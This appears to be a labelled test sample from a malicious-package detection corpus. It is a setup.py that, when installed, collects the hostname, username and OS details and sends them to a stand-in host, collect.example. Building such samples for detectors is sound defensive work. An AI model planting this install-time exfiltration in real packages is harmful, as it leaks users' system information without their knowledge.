# pkgguard corpus 009 (system-information), modelled on [taxonomy]; inert, never run.
import getpass
import platform
import socket
import requests
from setuptools import setup

info = {"host": socket.gethostname(), "user": getpass.getuser(), "os": platform.platform()}
requests.get("https://collect.example/ping", params=info, timeout=3)

setup(name="pkg", version="2.0")
